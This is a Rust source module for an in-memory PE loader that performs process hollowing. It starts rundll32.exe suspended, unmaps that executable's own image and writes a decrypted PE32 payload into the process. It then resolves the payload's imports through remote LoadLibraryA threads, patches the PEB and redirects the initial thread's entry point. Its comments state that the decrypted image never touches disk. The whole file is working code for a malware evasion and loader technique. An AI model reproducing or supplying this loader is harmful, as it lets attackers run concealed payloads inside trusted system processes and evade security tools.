//! In-memory PE loader: rebuilds a decrypted PE32 image inside a freshly
//! created, suspended host process and hijacks the host's initial thread
//! to run it. The decrypted image never touches persistent storage.
//!
//! The pipeline is a straight line of capability calls on
//! [`RemoteProcess`] with a single cleanup branch: any failure after the
//! host exists terminates the suspended process so nothing leaks.

use std::ffi::CString;
use std::io;
use std::mem;
use std::ptr;

use log::{debug, info, warn};

use ntapi::ntmmapi::NtUnmapViewOfSection;
use winapi::shared::minwindef::{DWORD, FARPROC, HMODULE, LPVOID};
use winapi::shared::winerror::WAIT_TIMEOUT;
use winapi::um::handleapi::CloseHandle;
use winapi::um::libloaderapi::{GetModuleHandleA, GetProcAddress};
use winapi::um::memoryapi::{
    ReadProcessMemory, VirtualAllocEx, VirtualFreeEx, VirtualProtectEx, WriteProcessMemory,
};
use winapi::um::processthreadsapi::{
    CreateProcessA, CreateRemoteThread, GetExitCodeProcess, GetExitCodeThread, ResumeThread,
    TerminateProcess, PROCESS_INFORMATION, STARTUPINFOA,
};
use winapi::um::synchapi::WaitForSingleObject;
use winapi::um::winbase::{
    Wow64GetThreadContext, Wow64SetThreadContext, CREATE_SUSPENDED, INFINITE, WAIT_OBJECT_0,
};
use winapi::um::winnt::{
    HANDLE, LPCSTR, MEM_COMMIT, MEM_RELEASE, MEM_RESERVE, PAGE_EXECUTE_READ,
    PAGE_EXECUTE_READWRITE, PAGE_READWRITE, WOW64_CONTEXT, WOW64_CONTEXT_FULL,
};

use crate::error::{ProtectError, Result};
use crate::pe::{
    apply_relocations32, read_u32, PeImage, DIRECTORY_ENTRY_BASERELOC, DIRECTORY_ENTRY_IMPORT,
    IMPORT_DESCRIPTOR_SIZE, ORDINAL_FLAG32,
};

/// ImageBaseAddress offset inside the 32-bit PEB.
const PEB_IMAGE_BASE_OFFSET: u32 = 0x8;
/// Bound on the short-lived remote loader calls; a hang is a hard failure.
const REMOTE_CALL_TIMEOUT_MS: DWORD = 10_000;
/// Sanity cap on SizeOfImage before committing memory for it.
const MAX_IMAGE_SIZE: u32 = 512 * 1024 * 1024;

fn os_error(what: &str) -> ProtectError {
    ProtectError::Process(format!("{what}: {}", io::Error::last_os_error()))
}

/// Capability handle over the suspended host process: every remote
/// mutation the pipeline performs goes through one of these operations.
pub struct RemoteProcess {
    process: HANDLE,
    thread: HANDLE,
    pid: DWORD,
}

impl RemoteProcess {
    /// Starts the host executable suspended, with the payload's arguments
    /// on its command line so the transplanted image sees them.
    pub fn spawn_suspended(path: &str, args: &[String]) -> Result<Self> {
        let app = CString::new(path)
            .map_err(|_| ProtectError::Process("host path contains NUL".into()))?;
        let mut cmdline = format!("\"{path}\"");
        for arg in args {
            cmdline.push(' ');
            cmdline.push_str(arg);
        }
        let mut cmdline = CString::new(cmdline)
            .map_err(|_| ProtectError::Process("argument contains NUL".into()))?
            .into_bytes_with_nul();

        let mut startup: STARTUPINFOA = unsafe { mem::zeroed() };
        startup.cb = mem::size_of::<STARTUPINFOA>() as DWORD;
        let mut info: PROCESS_INFORMATION = unsafe { mem::zeroed() };

        let ok = unsafe {
            CreateProcessA(
                app.as_ptr(),
                cmdline.as_mut_ptr() as *mut i8,
                ptr::null_mut(),
                ptr::null_mut(),
                0,
                CREATE_SUSPENDED,
                ptr::null_mut(),
                ptr::null_mut(),
                &mut startup,
                &mut info,
            )
        };
        if ok == 0 {
            return Err(os_error("CreateProcessA"));
        }
        Ok(RemoteProcess {
            process: info.hProcess,
            thread: info.hThread,
            pid: info.dwProcessId,
        })
    }

    pub fn pid(&self) -> u32 {
        self.pid
    }

    fn allocate(&self, preferred: Option<u32>, size: usize, protect: DWORD) -> Result<u32> {
        let address = unsafe {
            VirtualAllocEx(
                self.process,
                preferred.map_or(ptr::null_mut(), |p| p as usize as LPVOID),
                size,
                MEM_COMMIT | MEM_RESERVE,
                protect,
            )
        };
        if address.is_null() {
            return Err(os_error("VirtualAllocEx"));
        }
        let address = address as usize;
        if address > u32::MAX as usize {
            return Err(ProtectError::Process(
                "host allocation landed above the 32-bit address space".into(),
            ));
        }
        Ok(address as u32)
    }

    /// Image allocation: preferred base first, anywhere as a second try.
    pub fn allocate_image(&self, preferred_base: u32, size: usize) -> Result<u32> {
        match self.allocate(Some(preferred_base), size, PAGE_EXECUTE_READWRITE) {
            Ok(base) => Ok(base),
            Err(_) => {
                debug!("preferred base {preferred_base:#x} unavailable in host, relocating");
                self.allocate(None, size, PAGE_EXECUTE_READWRITE)
            }
        }
    }

    pub fn write(&self, address: u32, data: &[u8]) -> Result<()> {
        let ok = unsafe {
            WriteProcessMemory(
                self.process,
                address as usize as LPVOID,
                data.as_ptr() as LPVOID,
                data.len(),
                ptr::null_mut(),
            )
        };
        if ok == 0 {
            return Err(os_error("WriteProcessMemory"));
        }
        Ok(())
    }

    pub fn write_u32(&self, address: u32, value: u32) -> Result<()> {
        self.write(address, &value.to_le_bytes())
    }

    pub fn read_u32(&self, address: u32) -> Result<u32> {
        let mut value = 0u32;
        let ok = unsafe {
            ReadProcessMemory(
                self.process,
                address as usize as LPVOID,
                &mut value as *mut u32 as LPVOID,
                mem::size_of::<u32>(),
                ptr::null_mut(),
            )
        };
        if ok == 0 {
            return Err(os_error("ReadProcessMemory"));
        }
        Ok(value)
    }

    /// Copies a NUL-terminated string into fresh host memory.
    fn write_c_string(&self, text: &str) -> Result<u32> {
        let bytes = CString::new(text)
            .map_err(|_| ProtectError::Process("module name contains NUL".into()))?
            .into_bytes_with_nul();
        let address = self.allocate(None, bytes.len(), PAGE_READWRITE)?;
        self.write(address, &bytes)?;
        Ok(address)
    }

    fn free(&self, address: u32) {
        let ok = unsafe {
            VirtualFreeEx(
                self.process,
                address as usize as LPVOID,
                0,
                MEM_RELEASE,
            )
        };
        if ok == 0 {
            debug!("VirtualFreeEx failed for {address:#x}");
        }
    }

    /// Runs one call in the host on a short-lived thread and returns its
    /// exit value. The wait is bounded; a timeout is a hard failure.
    pub fn run_remote_call(&self, entry: FARPROC, argument: u32) -> Result<u32> {
        let routine: unsafe extern "system" fn(LPVOID) -> DWORD =
            unsafe { mem::transmute(entry) };
        let thread = unsafe {
            CreateRemoteThread(
                self.process,
                ptr::null_mut(),
                0,
                Some(routine),
                argument as usize as LPVOID,
                0,
                ptr::null_mut(),
            )
        };
        if thread.is_null() {
            return Err(os_error("CreateRemoteThread"));
        }
        let wait = unsafe { WaitForSingleObject(thread, REMOTE_CALL_TIMEOUT_MS) };
        if wait != WAIT_OBJECT_0 {
            unsafe { CloseHandle(thread) };
            return Err(ProtectError::Process(if wait == WAIT_TIMEOUT {
                "remote call timed out".into()
            } else {
                format!("remote call wait failed: {}", io::Error::last_os_error())
            }));
        }
        let mut exit_code: DWORD = 0;
        let ok = unsafe { GetExitCodeThread(thread, &mut exit_code) };
        unsafe { CloseHandle(thread) };
        if ok == 0 {
            return Err(os_error("GetExitCodeThread"));
        }
        Ok(exit_code)
    }

    pub fn wow64_context(&self) -> Result<WOW64_CONTEXT> {
        let mut context: WOW64_CONTEXT = unsafe { mem::zeroed() };
        context.ContextFlags = WOW64_CONTEXT_FULL;
        let ok = unsafe { Wow64GetThreadContext(self.thread, &mut context) };
        if ok == 0 {
            return Err(os_error("Wow64GetThreadContext"));
        }
        Ok(context)
    }

    pub fn set_wow64_context(&self, context: &WOW64_CONTEXT) -> Result<()> {
        let ok = unsafe { Wow64SetThreadContext(self.thread, context) };
        if ok == 0 {
            return Err(os_error("Wow64SetThreadContext"));
        }
        Ok(())
    }

    pub fn protect(&self, address: u32, size: usize, protection: DWORD) -> Result<()> {
        let mut old: DWORD = 0;
        let ok = unsafe {
            VirtualProtectEx(
                self.process,
                address as usize as LPVOID,
                size,
                protection,
                &mut old,
            )
        };
        if ok == 0 {
            return Err(os_error("VirtualProtectEx"));
        }
        Ok(())
    }

    /// Removes the host's own originally-mapped image from its address
    /// space; it must never execute its own code.
    pub fn unmap(&self, base: u32) -> Result<()> {
        let status =
            unsafe { NtUnmapViewOfSection(self.process, base as usize as *mut _) };
        if status < 0 {
            return Err(ProtectError::Process(format!(
                "NtUnmapViewOfSection returned {status:#x}"
            )));
        }
        Ok(())
    }

    pub fn resume(&self) -> Result<()> {
        let previous = unsafe { ResumeThread(self.thread) };
        if previous == DWORD::MAX {
            return Err(os_error("ResumeThread"));
        }
        Ok(())
    }

    /// Blocks until the host terminates; unbounded by design, the caller
    /// expects to ride out the child's lifetime.
    pub fn wait_exit(&self) -> Result<u32> {
        let wait = unsafe { WaitForSingleObject(self.process, INFINITE) };
        if wait != WAIT_OBJECT_0 {
            return Err(os_error("WaitForSingleObject"));
        }
        let mut exit_code: DWORD = 0;
        let ok = unsafe { GetExitCodeProcess(self.process, &mut exit_code) };
        if ok == 0 {
            return Err(os_error("GetExitCodeProcess"));
        }
        Ok(exit_code)
    }

    fn terminate(&self) {
        unsafe { TerminateProcess(self.process, 1) };
    }
}

impl Drop for RemoteProcess {
    fn drop(&mut self) {
        unsafe {
            CloseHandle(self.thread);
            CloseHandle(self.process);
        }
    }
}

fn host_executable_path() -> String {
    let root = std::env::var("SystemRoot").unwrap_or_else(|_| "C:\\Windows".into());
    // 32-bit system executable; small and present on every install.
    format!("{root}\\SysWOW64\\rundll32.exe")
}

/// Lays the file image out at virtual-address granularity: headers, then
/// each section's raw bytes at its mapped offset.
fn stage_image(data: &[u8], pe: &PeImage) -> Result<Vec<u8>> {
    let size = pe.optional.size_of_image;
    if size == 0 || size > MAX_IMAGE_SIZE {
        return Err(ProtectError::Format("implausible SizeOfImage"));
    }
    let mut staged = vec![0u8; size as usize];

    let header_len = (pe.optional.size_of_headers as usize)
        .min(data.len())
        .min(staged.len());
    staged[..header_len].copy_from_slice(&data[..header_len]);

    for section in &pe.sections {
        if section.size_of_raw_data == 0 {
            continue;
        }
        let src_start = section.pointer_to_raw_data as usize;
        let src_end = src_start + section.size_of_raw_data as usize;
        let dst_start = section.virtual_address as usize;
        let dst_end = dst_start + section.size_of_raw_data as usize;
        if src_end > data.len() || dst_end > staged.len() {
            return Err(ProtectError::Format("section extent out of range"));
        }
        staged[dst_start..dst_end].copy_from_slice(&data[src_start..src_end]);
    }
    Ok(staged)
}

fn local_load_library() -> Result<FARPROC> {
    let address = unsafe {
        let kernel32 = GetModuleHandleA(b"kernel32.dll\0".as_ptr() as LPCSTR);
        if kernel32.is_null() {
            return Err(os_error("GetModuleHandleA(kernel32)"));
        }
        GetProcAddress(kernel32, b"LoadLibraryA\0".as_ptr() as LPCSTR)
    };
    if address.is_null() {
        return Err(os_error("GetProcAddress(LoadLibraryA)"));
    }
    Ok(address)
}

fn c_string_in(staged: &[u8], offset: usize) -> Result<&str> {
    let tail = staged
        .get(offset..)
        .ok_or(ProtectError::Format("string RVA out of range"))?;
    let len = tail
        .iter()
        .position(|&b| b == 0)
        .ok_or(ProtectError::Format("unterminated string in image"))?;
    std::str::from_utf8(&tail[..len])
        .map_err(|_| ProtectError::Format("non-ASCII string in import table"))
}

/// Loads each imported module inside the host via a short-lived remote
/// LoadLibraryA call, resolves every imported symbol against the returned
/// module handle, and writes the addresses into the transplanted image's
/// import thunks.
fn resolve_imports_remote(
    host: &RemoteProcess,
    pe: &PeImage,
    staged: &[u8],
    remote_base: u32,
) -> Result<()> {
    let dir = pe.optional.data_directory[DIRECTORY_ENTRY_IMPORT];
    if dir.virtual_address == 0 {
        return Ok(());
    }
    let load_library = local_load_library()?;

    let mut descriptor = dir.virtual_address as usize;
    loop {
        let name_rva = read_u32(staged, descriptor + 12)?;
        if name_rva == 0 {
            break;
        }
        let original_first_thunk = read_u32(staged, descriptor)?;
        let first_thunk = read_u32(staged, descriptor + 16)?;
        let dll_name = c_string_in(staged, name_rva as usize)?;
        debug!("loading {dll_name} inside host");

        let remote_name = host.write_c_string(dll_name)?;
        let module = host.run_remote_call(load_library, remote_name)?;
        host.free(remote_name);
        if module == 0 {
            warn!("host could not load {dll_name}, leaving its thunks unresolved");
            descriptor += IMPORT_DESCRIPTOR_SIZE;
            continue;
        }

        let lookup_rva = if original_first_thunk != 0 {
            original_first_thunk
        } else {
            first_thunk
        };
        let mut index = 0u32;
        loop {
            let entry = read_u32(staged, (lookup_rva + index * 4) as usize)?;
            if entry == 0 {
                break;
            }
            let resolved = unsafe {
                if entry & ORDINAL_FLAG32 != 0 {
                    GetProcAddress(
                        module as usize as HMODULE,
                        (entry & 0xFFFF) as usize as LPCSTR,
                    )
                } else {
                    let symbol = c_string_in(staged, (entry + 2) as usize)?;
                    let symbol = CString::new(symbol).map_err(|_| {
                        ProtectError::Format("import name contains NUL")
                    })?;
                    GetProcAddress(module as usize as HMODULE, symbol.as_ptr())
                }
            };
            if resolved.is_null() {
                warn!("unresolved import from {dll_name}");
            } else {
                host.write_u32(
                    remote_base + first_thunk + index * 4,
                    resolved as usize as u32,
                )?;
            }
            index += 1;
        }
        descriptor += IMPORT_DESCRIPTOR_SIZE;
    }
    Ok(())
}

/// Everything between CreateHost and Resume: unmap, allocate, relocate,
/// transplant, resolve imports, redirect, tighten protection.
fn hollow_into(host: &RemoteProcess, pe: &PeImage, mut staged: Vec<u8>) -> Result<()> {
    let context = host.wow64_context()?;
    let peb = context.Ebx;
    let host_base = host.read_u32(peb + PEB_IMAGE_BASE_OFFSET)?;
    host.unmap(host_base)?;
    debug!("host image at {host_base:#x} unmapped");

    let size = pe.optional.size_of_image as usize;
    let remote_base = host.allocate_image(pe.optional.image_base, size)?;
    let delta = remote_base.wrapping_sub(pe.optional.image_base);
    if delta != 0 {
        let reloc = pe.optional.data_directory[DIRECTORY_ENTRY_BASERELOC];
        if reloc.virtual_address == 0 {
            return Err(ProtectError::Process(format!(
                "no relocations and preferred base {:#x} is taken",
                pe.optional.image_base
            )));
        }
        apply_relocations32(&mut staged, reloc, delta)?;
        debug!("staged image rebased by {delta:#x}");
    }

    host.write(remote_base, &staged)?;
    resolve_imports_remote(host, pe, &staged, remote_base)?;

    host.write_u32(peb + PEB_IMAGE_BASE_OFFSET, remote_base)?;
    let mut redirected = context;
    redirected.Eax = remote_base + pe.optional.address_of_entry_point;
    host.set_wow64_context(&redirected)?;

    host.protect(remote_base, size, PAGE_EXECUTE_READ)?;
    info!(
        "transplant complete: base {remote_base:#x}, entry {:#x}",
        redirected.Eax
    );
    Ok(())
}

/// Runs a PE32 image via process hollowing and reports the host's exit
/// code. The staging buffer is released before the thread resumes; any
/// failure after the host exists terminates it before returning.
pub fn run_image(image: &[u8], args: &[String]) -> Result<i32> {
    let pe = PeImage::parse(image)?;
    let staged = stage_image(image, &pe)?;

    let host_path = host_executable_path();
    let host = RemoteProcess::spawn_suspended(&host_path, args)?;
    info!("suspended host {host_path} (pid {})", host.pid());

    // Single cleanup path: any failure between CreateHost and Resume
    // terminates the suspended host so it cannot leak.
    if let Err(e) = hollow_into(&host, &pe, staged).and_then(|()| host.resume()) {
        warn!("terminating partially-hollowed host (pid {})", host.pid());
        host.terminate();
        return Err(e);
    }

    let exit_code = host.wait_exit()?;
    Ok(exit_code as i32)
}
